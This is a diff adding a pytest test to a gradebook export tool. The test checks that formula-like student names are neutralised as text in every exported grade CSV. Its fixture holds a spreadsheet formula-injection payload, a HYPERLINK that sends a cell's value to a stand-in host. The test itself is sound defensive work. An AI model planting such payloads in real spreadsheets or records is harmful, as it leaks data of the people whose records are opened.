@@ -272,3 +272,26 @@ def test_one_save_of_a_40_student_gradebook_is_cheap(tmp_path, capsys):
         print(f"\none save, 40 students x 2 lessons: best {min(timings) * 1000:.0f} ms")
     assert len(read_csv(tmp_path / "grades.csv")) == 81
     assert min(timings) < 2.0, timings
+
+
+def test_a_name_a_spreadsheet_would_run_is_written_as_text(tmp_path):
+    """A learner who names themselves '=HYPERLINK(...)' in the LMS: every grade file shows the
+    name with a leading apostrophe (text in a spreadsheet), and the numbers stay numbers."""
+    first, last = '=HYPERLINK("http://x.example/?"&A1,"grades")', "@SUM(1+1)"
+    url = make_gradebook(tmp_path / "gradebook.db", {(B, "1001"): CELLS}, {"1001": (first, last)})
+    (tmp_path / canvas.IDS_FILE).write_text(f"lesson,canvas_assignment_id\n{B},12345\n")
+    results = [result(B, "1001", points=CELLS, name=f"{first} {last}")]
+    book = records.read_book(url, COURSE)
+    records.export_csv(book, results, tmp_path / "grades.csv")
+    exports.write_all(
+        tmp_path, book, results, ["canvas", "moodle"], {"canvas": canvas.ids_of(tmp_path)}
+    )
+    exports.questions(results, B, tmp_path / "exports")
+    files = [tmp_path / "grades.csv", *sorted((tmp_path / "exports").glob("*.csv"))]
+    assert len(files) == 4, files
+    for path in files:
+        cells = [cell for row in read_csv(path) for cell in row]
+        named = [cell for cell in cells if "HYPERLINK" in cell or "SUM(" in cell]
+        assert named, f"{path.name} holds no name: is this test still real?"
+        assert not [cell for cell in named if cell.startswith(records.FORMULA_STARTS)], path.name
+    assert records.spreadsheet_cell("-0.5") == "-0.5" and records.spreadsheet_cell(-2) == -2
